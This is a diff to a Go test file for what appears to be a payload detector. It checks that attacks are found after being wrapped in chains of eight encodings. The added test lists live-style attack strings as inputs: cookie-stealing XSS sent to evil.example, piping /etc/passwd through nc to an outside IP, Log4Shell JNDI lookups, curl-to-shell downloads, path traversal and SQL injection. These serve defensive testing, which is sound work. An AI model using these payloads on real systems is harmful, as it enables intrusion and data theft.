@@ -164,23 +164,68 @@ func TestEveryFormatInEveryOther(t *testing.T) {
 	}
 }
 
+// TestDeepChains reads through chains of formats, eight deep, 200 for each attack.
 func TestDeepChains(t *testing.T) {
 	e := New(Options{})
-	rnd := rand.New(rand.NewPCG(3, 4))
-	for range 200 {
-		chain := make([]wrapper, 8)
-		size := 1.0
-		for i := range chain {
-			chain[i] = wrappers[rnd.IntN(len(wrappers))]
-			// A character reference takes six bytes for one: more than two
-			// would make a value that is longer than a window.
-			if chain[i].name == "html" {
-				size *= 6
-			}
-			if size > 36 {
-				chain[i] = wrappers[0]
-			}
+	for i, attack := range []string{
+		nestedAttack, nestedTemplate,
+		"<script>fetch('//evil.example/?c='+document.cookie)</script>",
+		"; cat /etc/passwd | nc 203.0.113.7 4444",
+		"../../../../etc/passwd",
+		"${jndi:ldap://evil.example/a}",
+		"\"><img src=x onerror=alert(1)>",
+		"$(curl http://evil.example/x.sh|sh)",
+		"1 OR 1=1", "admin' --",
+	} {
+		rnd := rand.New(rand.NewPCG(uint64(3+i), 4))
+		for range 200 {
+			checkChain(t, e, randomChain(rnd), attack)
 		}
-		checkChain(t, e, chain, nestedAttack)
 	}
+}
+
+// randomChain returns a chain of eight formats.
+func randomChain(rnd *rand.Rand) []wrapper {
+	chain := make([]wrapper, 8)
+	size := 1.0
+	for i := range chain {
+		chain[i] = wrappers[rnd.IntN(len(wrappers))]
+		// A character reference takes six bytes for one: more than two
+		// would make a value that is longer than a window.
+		if chain[i].name == "html" {
+			size *= 6
+		}
+		if size > 36 {
+			chain[i] = wrappers[0]
+		}
+	}
+	return chain
+}
+
+// TestLongChains reads what is longer than a window because of the formats that it
+// is in.
+func TestLongChains(t *testing.T) {
+	e := New(Options{})
+	for _, names := range []string{
+		"html.html.html.json.graphql",
+		"hex.html.html.jwt.html.html.json",
+		"html.html.hex.hex.jwt.html.jwt.html",
+		"hex.hex.percent.html.hex.html.gzip.jwt",
+		"base64url.hex.json.html.html.hex.graphql.graphql",
+		"form.html.html.html.hex.multipart",
+		"json.html.html.html.base64.hex",
+		"multipart.html.html.html.base64.hex",
+		"percent.html.html.html.hex.gzip.hex",
+	} {
+		checkChain(t, e, chainOf(names), nestedAttack)
+	}
+}
+
+// chainOf returns the chain that chainName writes.
+func chainOf(names string) (chain []wrapper) {
+	for name := range strings.SplitSeq(names, ".") {
+		i := slices.IndexFunc(wrappers, func(w wrapper) bool { return w.name == name })
+		chain = append(chain, wrappers[i])
+	}
+	return chain
 }
